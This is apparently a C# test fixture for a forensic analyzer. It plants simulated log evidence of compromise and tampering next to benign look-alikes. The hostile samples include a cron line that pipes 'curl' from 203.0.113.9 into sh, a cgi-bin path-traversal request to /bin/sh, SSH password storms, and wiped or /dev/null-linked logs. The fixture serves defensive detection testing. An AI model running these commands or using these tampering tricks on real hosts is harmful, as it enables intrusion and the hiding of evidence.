using System.Text;
using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantedLogs;
using static Forensics.Analyzer.Tests.Detection.PlantKind;
using static Forensics.Analyzer.Tests.Detection.PlantTree;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>What logs tell, and logs that were tampered with.</summary>
internal static class LogPlants
{
    private const long End = Planted + 2 * Day;
    private const string Stranger = "203.0.113.50";
    private static readonly string[] s_auth = ["/var/log/auth.log"];

    public static IReadOnlyList<Plant> All { get; } =
    [
        new("L-PKGLOG", "scanner-installed-and-gone", PlantKind.Quiet, tree => tree.File("/var/log/dpkg.log", "2026-06-01 10:00:00 install masscan:amd64 <none> 2:1.3.2-1\n2026-06-01 10:00:01 status installed masscan:amd64 2:1.3.2-1\n")) { AtLeast = Severity.Low },
        new("L-PKGLOG", "everyday-packages", PlantKind.Benign, tree => tree.File("/var/log/dpkg.log", "2026-06-01 10:00:00 install htop:amd64 <none> 3.2.2-2\n2026-06-01 10:00:01 status installed htop:amd64 3.2.2-2\n")),
        new("L-WEBLOG", "traversal-answered", PlantKind.Quiet, tree => tree.File("/var/log/nginx/access.log", "203.0.113.7 - - [01/Jun/2026:10:00:00 +0000] \"POST /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\" 200 12 \"-\" \"libredtail-http\"\n")) { AtLeast = Severity.Low },
        new("L-WEBLOG", "refused-noise", PlantKind.Benign, tree => tree.File("/var/log/nginx/access.log", "203.0.113.7 - - [01/Jun/2026:10:00:00 +0000] \"GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\" 404 12 \"-\" \"-\"\n203.0.113.8 - - [01/Jun/2026:10:00:00 +0000] \"GET / HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n")),
        // Logins.
        new("L-LOGIN", "guessed-password", Quiet, tree => tree.OrdinaryLogs(Storm(Planted, 80, Stranger, "alice") + Line(Planted + 300, "sshd[99]", $"Accepted password for alice from {Stranger} port 40100 ssh2"))) { Entries = s_auth },
        new("L-LOGIN", "guessed-in-rotated-part", Quiet, tree => tree.OrdinaryLogs().Log("/var/log/auth.log.2.gz", Gzip(Storm(Planted - 20 * Day, 80, Stranger) + Line(Planted - 20 * Day + 300, "sshd[99]", $"Accepted password for root from {Stranger} port 40100 ssh2")), Planted - 14 * Day)) { Entries = s_auth },
        new("L-LOGIN", "red-hat-secure", Quiet, tree => tree.Log("/var/log/secure", Ordinary(Planted - 3 * Day, Planted, OldLine) + Storm(Planted, 80, Stranger, "root", OldLine) + OldLine(Planted + 300, "sshd[99]", $"Accepted password for root from {Stranger} port 40100 ssh2"), Planted + 400)) { Host = PlantHost.RedHat, Entries = ["/var/log/secure"] },
        new("L-LOGIN", "journal-only", Quiet, tree => tree.Log("/var/log/journal/0123456789abcdef0123456789abcdef/system.journal", Journal([.. Enumerable.Range(0, 60).Select(i => (Planted + i * 5, "sshd", $"Failed password for root from {Stranger} port {4000 + i} ssh2")),
            (Planted + 400, "sshd-session", $"Accepted password for root from {Stranger} port 40100 ssh2")]), End)),
        new("L-LOGIN", "root-by-password-after-a-storm", Quiet, tree => tree.OrdinaryLogs(Storm(Planted, 150, "198.51.100.77") + Line(Planted + 900, "sshd[99]", $"Accepted password for root from {Stranger} port 40100 ssh2"))) { Entries = s_auth },
        new("L-LOGIN", "noise-without-success", Benign, tree => tree.OrdinaryLogs(Storm(Planted, 1500, "198.51.100.77") + Storm(Planted + 100, 900, "203.0.113.66", "invalid user admin") + Line(Planted + 5000, "sshd[99]", "Accepted publickey for alice from 10.1.2.3 port 50122 ssh2: ED25519 " + AliceKey))),
        new("L-LOGIN", "mistyped-password", Benign, tree => tree.OrdinaryLogs(Storm(Planted, 3, "198.51.100.9", "alice") + Line(Planted + 30, "sshd[99]", "Accepted password for alice from 198.51.100.9 port 40100 ssh2"))),

        // Keys.
        new("L-SSH-KEYS", "used-and-taken-out-again", Quiet, tree => tree.OrdinaryLogs(Line(Planted + 60, "sshd[99]", $"Accepted publickey for root from {Stranger} port 40100 ssh2: RSA SHA256:4yJm3dJ1cQ9mQ0n5Fz7b1r5tK1l6m8o0p2quHz2kC0m"))) { Rule = "used-but-gone", Entries = s_auth, AtLeast = Severity.Medium },
        new("L-SSH-KEYS", "used-and-gone-from-an-administrator", Quiet, tree => tree.OrdinaryLogs(Line(Planted + 60, "sshd[99]", $"Accepted publickey for alice from {Stranger} port 40100 ssh2: RSA SHA256:4yJm3dJ1cQ9mQ0n5Fz7b1r5tK1l6m8o0p2quHz2kC0m"))) { Rule = "used-but-gone", Entries = s_auth, AtLeast = Severity.Medium },
        new("L-SSH-KEYS", "replaced-by-its-owner", Benign, tree => tree.OrdinaryLogs(Line(Planted + 60, "sshd[99]", "Accepted publickey for alice from 10.1.2.3 port 40100 ssh2: RSA SHA256:4yJm3dJ1cQ9mQ0n5Fz7b1r5tK1l6m8o0p2quHz2kC0m"))),

        // Jobs that ran.
        new("L-CRON-LOG", "downloads", Loud, tree => tree.OrdinaryLogs().Log("/var/log/syslog", Line(Planted, "CRON[812]", "(root) CMD (curl -fsSL http://203.0.113.9/b.sh | sh)"), Planted + 1)),
        new("L-CRON-LOG", "program-is-still-there", Quiet, tree => tree.OrdinaryLogs().Log("/var/log/syslog", Line(Planted, "CRON[812]", "(root) CMD (/var/tmp/sa1 1 1)"), Planted + 1).Program("/var/tmp/sa1")),
        new("L-CRON-LOG", "program-among-those-of-the-system", Quiet, tree => tree.OrdinaryLogs().Log("/var/log/syslog", Line(Planted, "CRON[812]", "(root) CMD (/usr/sbin/netmond)"), Planted + 1).Program("/usr/sbin/netmond")) { AtLeast = Severity.Medium, Entries = ["/var/log/syslog"] },
        new("L-CRON-LOG", "hidden-program-red-hat", Quiet, tree => tree.Log("/var/log/cron", OldLine(Planted, "CROND[812]", "(root) CMD (/usr/lib/.cache-d/agent)"), Planted + 1).Program("/usr/lib/.cache-d/agent")) { Host = PlantHost.RedHat },
        new("L-CRON-LOG", "in-the-journal", Quiet, tree => tree.Log("/var/log/journal/0123456789abcdef0123456789abcdef/system.journal", Journal([(Planted, "CRON", "(alice) CMD (/dev/shm/.x/run)")]), End).Program("/dev/shm/.x/run")),
        new("L-CRON-LOG", "job-is-in-its-table", Benign, tree => tree.OrdinaryLogs().Log("/var/log/syslog", Line(Planted, "CRON[812]", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)"), Planted + 1)),
        new("L-CRON-LOG", "backup-that-was-removed", Benign, tree => tree.OrdinaryLogs().Log("/var/log/syslog", Line(Planted, "CRON[812]", "(root) CMD (/usr/local/bin/backup.sh >/dev/null 2>&1)"), Planted + 1)),
        new("L-CRON-USER", "replaced-by-web-server", Quiet, tree => tree.OrdinaryLogs().Log("/var/log/syslog", Line(Planted, "crontab[912]", "(www-data) REPLACE (www-data)"), Planted + 1)) { AtLeast = Severity.Medium, Entries = ["/var/log/syslog"] },

        // Tampering.
        new("L-LOGWIPE", "zeroed-records", Quiet, tree => tree.OrdinaryLogs().Log("/var/log/wtmp", Wtmp([.. Days(Planted - 5 * Day, 3), (-1, "", "", "", 0), (-1, "", "", "", 0), .. Days(Planted, 2)]), End)) { Rule = "zeroed-records" },
        new("L-LOGWIPE", "wtmp-emptied", Quiet, tree => tree.OrdinaryLogs().Log("/var/log/wtmp", "", Planted)) { Rule = "emptied" },
        new("L-LOGWIPE", "auth-log-emptied", Quiet, tree => tree.OrdinaryLogs().Log("/var/log/auth.log", "", Planted, Planted - 7 * Day)) { Rule = "emptied" },
        new("L-LOGWIPE", "secure-leads-nowhere", Quiet, tree => tree.Link("/var/log/secure", "/dev/null")) { Host = PlantHost.RedHat, Rule = "linked-away" },
        new("L-LOGWIPE", "auth-log-removed", Quiet, tree => { tree.OrdinaryLogs().Remove("/var/log/auth.log"); }) { Rule = "missing" },
        new("L-LOGWIPE", "odd-size", Quiet, tree => tree.OrdinaryLogs().Log("/var/log/wtmp", [.. Wtmp(Days(Planted - 5 * Day, 3)), 1, 2, 3], End)) { Rule = "odd-size", AtLeast = Severity.Medium },
        new("L-LOGWIPE", "hours-cut-out", Quiet, tree => tree.OrdinaryLogs().Log("/var/log/auth.log", Ordinary(Planted - 7 * Day, Planted) + Ordinary(Planted + 20 * 3600, End), End, Planted - 7 * Day)
            .Log("/var/log/syslog", string.Concat(Enumerable.Range(0, 48).Select(i => Line(Planted + i * 3600 + 1020, "CRON[812]", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)"))), End)) { Rule = "silent", AtLeast = Severity.Medium },
        new("L-LOGWIPE", "beginning-lost", Quiet, tree => tree.OrdinaryLogs().Log("/var/log/wtmp", Wtmp(Days(Planted, 2)), End)) { Rule = "begins-late", AtLeast = Severity.Medium },
        new("L-LOGWIPE", "part-removed", Quiet, tree => tree.OrdinaryLogs().Log("/var/log/auth.log.3.gz", Gzip(Ordinary(Planted - 28 * Day, Planted - 21 * Day)), Planted - 21 * Day)) { Rule = "altered", AtLeast = Severity.Medium },
        new("L-LOGWIPE", "rotation", Benign, tree => tree.OrdinaryLogs().Log("/var/log/btmp", "", Planted, Planted).Log("/var/log/btmp.1", Wtmp((6, "root", "ssh:notty", "198.51.100.77", Planted - 20 * Day)), Planted - 20 * Day)
            .Log("/var/log/wtmp", "", Planted, Planted).Log("/var/log/wtmp.1", Wtmp(Days(Planted - 14 * Day, 3)), Planted - 10 * Day)),
        new("L-LOGWIPE", "cleaned-image", Benign, tree => Cleaned(tree, Installed + 3600)),
        new("L-LOGWIPE", "cleaned-image-that-ran-since", Benign, tree => { Cleaned(tree, Installed + 3600); tree.Log("/var/log/auth.log", Ordinary(Planted - 3 * Day, Planted), Planted).Log("/var/log/wtmp", Wtmp(Days(Planted - 3 * Day, 3)), Planted); }),
        new("L-LOGWIPE", "journal-only-host", Benign, tree => tree.Log("/var/log/journal/0123456789abcdef0123456789abcdef/system.journal", Journal([.. Enumerable.Range(0, 48).Select(i => (Planted + i * 3600, "CRON", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)"))]), End)),
        new("L-LOGWIPE", "web-server-in-a-container", Benign, tree => tree.Link("/var/log/nginx/access.log", "/dev/stdout").Link("/var/log/nginx/error.log", "/dev/stderr")),
        new("L-LOGWIPE", "switched-off-for-days", Benign, tree => tree.Log("/var/log/auth.log", Ordinary(Planted - 9 * Day, Planted - 5 * Day) + Ordinary(Planted, End), End, Planted - 9 * Day)
            .Log("/var/log/syslog", string.Concat(Enumerable.Range(0, 200).Where(i => i is < 96 or >= 216).Select(i => Line(Planted - 9 * Day + i * 3600 + 1020, "CRON[812]", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)"))), End)),
    ];

    /// <summary>As virt-sysprep and packer leave an image: every log empty at the same moment.</summary>
    private static void Cleaned(PlantTree tree, long time)
    {
        foreach (string name in (string[])["wtmp", "btmp", "lastlog", "auth.log", "syslog", "kern.log", "dpkg.log"])
        {
            tree.Log("/var/log/" + name, "", time);
        }
    }
}
